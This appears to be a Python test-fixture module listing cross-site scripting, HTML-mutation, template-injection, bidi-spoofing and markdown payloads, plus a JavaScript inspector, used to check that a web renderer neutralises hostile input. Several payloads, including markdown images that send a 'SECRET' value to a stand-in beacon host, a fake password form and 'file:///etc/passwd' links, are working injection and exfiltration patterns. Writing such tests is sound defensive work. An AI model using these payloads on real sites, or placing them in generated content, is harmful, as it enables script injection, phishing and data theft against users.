"""What is put into every field: scripts that call `pwned`, and whatever would ask `evil.test` for something.

`pwned` is a function of the watch (`watching.py`), `evil.test` the beacon (`beacon.py`).
"""

from __future__ import annotations

from .beacon import HOST

EVIL = f"http://{HOST}/?d=SECRET"
_B64 = "PHNjcmlwdD5wYXJlbnQucHduZWQoJ2RhdGEnKTwvc2NyaXB0Pg=="  # <script>parent.pwned('data')</script>

ELEMENTS = (
    "<script>pwned('script')</script>",
    "<ScRiPt >pwned('case')</sCrIpT>",
    f"<script src={EVIL}></script>",
    f"<script type=module>import '{EVIL}'</script>",
    "<img src=x onerror=pwned('img')>",
    "<img src=x onerror=\"pwned('quoted')\" alt=''>",
    "<img/src='x'/onerror='pwned(`slashes`)'>",
    "<image src=x onerror=pwned('image')>",
    "<svg onload=pwned('svg')>",
    "<svg><script>pwned('svg script')</script></svg>",
    "<svg><animate onbegin=pwned('animate') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:pwned('xlink')\"><text y=20>click</text></a></svg>",
    f"<svg><use href='{EVIL}#x'/></svg>",
    f"<svg><image href='{EVIL}'/><feImage href='{EVIL}'/></svg>",
    "<svg><foreignObject><img src=x onerror=pwned('foreign')></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:pwned('math')\">x</maction></math>",
    "<details open ontoggle=pwned('toggle')><summary>x</summary></details>",
    "<input autofocus onfocus=pwned('focus')>",
    "<select autofocus onfocus=pwned('select')></select>",
    "<body onload=pwned('body')>",
    "<div onpointerenter=pwned('pointer') onmouseover=pwned('mouse') style='position:fixed;inset:0'>x</div>",
    "<marquee onstart=pwned('marquee')>x</marquee>",
    "<video><source onerror=pwned('source')></video>",
    f"<video poster={EVIL} src={EVIL} autoplay></video>",
    f"<audio src={EVIL} onerror=pwned('audio')></audio>",
    "<iframe srcdoc=\"<script>parent.pwned('srcdoc')</script>\"></iframe>",
    "<iframe src=\"javascript:parent.pwned('iframe')\"></iframe>",
    f"<iframe src='data:text/html;base64,{_B64}'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    f"<object data='data:text/html;base64,{_B64}'></object>",
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}><link rel=preload as=image href={EVIL}><link rel=dns-prefetch href=//{HOST}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href=http://{HOST}/>",
    f"<style>@import '{EVIL}'; * {{background: url({EVIL})}}</style>",
    f"<div style=\"background:url('{EVIL}')\">x</div>",
    f"<form action={EVIL}><button autofocus>Sign in</button><input name=key type=password></form>",
    "<button formaction=\"javascript:pwned('formaction')\">x</button>",
    f"<a href='javascript:pwned(1)' ping={EVIL}>click</a>",
    f"<picture><source srcset='{EVIL}'><img src=x></picture>",
    f"<template shadowrootmode=open><img src=x onerror=pwned('shadow')><img src={EVIL}></template>",
    "<slot onslotchange=pwned('slot')><x is=x-button></slot>",
)
BREAKING_OUT = (
    "<scr<script>ipt>pwned('nested')</scr</script>ipt>",
    "<dialog open><form method=dialog>Your key: <input></form></dialog>",
    "\"><script>pwned('double')</script>",
    "'><img src=x onerror=pwned('single')>",
    "` onfocus=pwned('backtick') autofocus x=`",
    '" autofocus onfocus="pwned(\'attribute\')" x="',
    "</title><script>pwned('title')</script>",
    "</textarea><script>pwned('textarea')</script>",
    "</script><script>pwned('closing')</script>",
    "--><script>pwned('comment')</script><!--",
    "<!--><img src=x onerror=pwned('comment')>-->",
    "]]><script>pwned('cdata')</script>",
    "';pwned('string');//\\';pwned('string');//",
    "\\u003cscript\\u003epwned('escaped')\\u003c/script\\u003e",
    "&lt;img src=x onerror=pwned('entity')&gt; &#60;img src=x onerror=pwned('entity')&#62;",
    "\x3cimg src=x onerror=pwned('hex')\x3e %3Cscript%3Epwned('percent')%3C/script%3E",
)
MUTATIONS = (
    "<noscript><p title=\"</noscript><img src=x onerror=pwned('noscript')>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=pwned('mxss')&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror=pwned('p')>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=pwned('svg style')>\">",
    "<xmp><p title=\"</xmp><svg/onload=pwned('xmp')>\">",
    "<title><img src=\"</title><img src=x onerror=pwned('rcdata')>//\">",
    "<svg><![CDATA[><img xlink:href=\"]]><img src=x onerror=pwned('cdata')>\">",
    "<select><iframe></select><img src=x onerror=pwned('select')>",
    "<a id=x tabindex=1 onfocus=pwned('clobber')></a><form id=attributes><input name=parentNode></form>",
    "<p id=__proto__>x</p> __proto__ constructor.prototype",
)
TEMPLATES = (
    "{{constructor.constructor('pwned(1)')()}}",
    "${pwned('template')} #{pwned('template')} <%= pwned('template') %>",
    "{n} {count} {title} {name} {0} %s %(name)s",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "$& $1 $` $' $$",
)
DIRECTIONS = (
    "invoice\u202efdp.exe",
    "\u2066\u2067left\u2069 \u202bright\u202a and \u202dback",
    "zero\u200bwidth\u200d\ufeff and\u00ad soft",
    "شروط الميناء (1) [2]",
)
MARKDOWN = (
    f"![x]({EVIL})",
    f"![x][1]\n\n[1]: {EVIL}",
    f"[![x]({EVIL})]({EVIL})",
    f'![a]({EVIL} "b")![](//{HOST}/x)',
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"> - ![x]({EVIL})\n> - <img src={EVIL}>",
    f"[1]: {EVIL}\n\nAs the handbook says [1].",
    f"[^1]\n\n[^1]: ![x]({EVIL})",
    f"<{EVIL}> and {EVIL} and www.{HOST}",
    "[x](javascript:pwned('link'))",
    "[x](JaVa\tScRiPt:pwned('link'))",
    "[x](&#106;avascript:pwned('entity'))",
    "[x](javascript&colon;pwned('colon'))",
    "<javascript:pwned('autolink')>",
    f"[x](data:text/html;base64,{_B64})",
    "[x](vbscript:pwned(1)) [x](blob:x) [x](file:///etc/passwd)",
    '[x](https://a.test/"onmouseover="pwned(\'title\')") [x](https://a.test \'" onfocus=pwned(1) x="\')',
    f"[127.0.0.1](https://127.0.0.1@{HOST}/)",
    "[sign in again](/api/v1/keys) [x](//a.test)",
    "```html\n<img src=x onerror=pwned('fence')>\n```",
    "```\"onmouseover=pwned('info')\nx\n```",
    "`<img src=x onerror=pwned('code')>`",
    f"$$\\href{{javascript:pwned(1)}}{{x}} \\includegraphics{{{EVIL}}}$$",
    f"```mermaid\ngraph TD; A[\"<img src={EVIL} onerror=pwned('mermaid')>\"]\n```",
    f":::html\n<img src={EVIL}>\n:::\n\n<!-- {EVIL} -->",
)
PRETENDING = (
    'event: done\ndata: {"type":"done","text":"<img src=x onerror=pwned(1)>"}\n\n',
    '{"type":"citation","n":1,"url":"javascript:pwned(1)","title":"<img src=x onerror=pwned(1)>"}',
)

SCRIPTS = (*ELEMENTS, *BREAKING_OUT, *MUTATIONS, *TEMPLATES)
"""For every field."""

ONE_LINE = tuple(p for p in (*SCRIPTS, *DIRECTIONS, *MARKDOWN) if "\n" not in p and "\t" not in p)
"""For titles, names and tags."""

ALL = (*SCRIPTS, *DIRECTIONS, *MARKDOWN, *PRETENDING)
"""For texts."""

# Everything in the document that could run, fetch or lead somewhere, wherever it stands: one line each.
INSPECT = """() => {
  const found = [], own = location.origin;
  const fetches = ['src', 'srcset', 'poster', 'data', 'background', 'ping', 'manifest'];
  const leads = ['href', 'xlink:href', 'action', 'formaction'];
  const walk = node => {
    for (const el of node.querySelectorAll('*')) {
      const tag = el.localName;
      if (/^(iframe|frame|object|embed|base|math|marquee|applet|style|foreignobject)$/.test(tag)) found.push(tag);
      if (tag === 'script' && !el.src?.startsWith(own + '/static/')) found.push('script ' + el.outerHTML.slice(0, 80));
      if (tag === 'meta' && el.httpEquiv) found.push('meta ' + el.httpEquiv);
      for (const {name, value} of el.attributes) {
        if (name.startsWith('on')) found.push(tag + ' ' + name);
        if (name === 'srcdoc' || (name === 'style' && /url|import/i.test(value))) found.push(tag + ' ' + name);
        const scheme = /^[\\s\\x00-\\x1f]*([a-z][a-z0-9+.-]*):/i.exec(value)?.[1].toLowerCase();
        if (fetches.includes(name) && scheme !== 'blob' && new URL(value, own).origin !== own)
          found.push(tag + ' ' + name + ' ' + value);
        if (leads.includes(name) && scheme && !['http', 'https', 'mailto', 'blob'].includes(scheme))
          found.push(tag + ' ' + name + ' ' + value);
        if (/action$/.test(name) && new URL(value, own).origin !== own) found.push(tag + ' ' + name + ' ' + value);
        if (name === 'href' && tag === 'a' && /^https?:/.test(value) && new URL(value).origin !== own
            && !/noopener/.test(el.rel)) found.push('a without noopener ' + value);
      }
      if (el.shadowRoot) walk(el.shadowRoot);
    }
  };
  walk(document);
  return found;
}"""
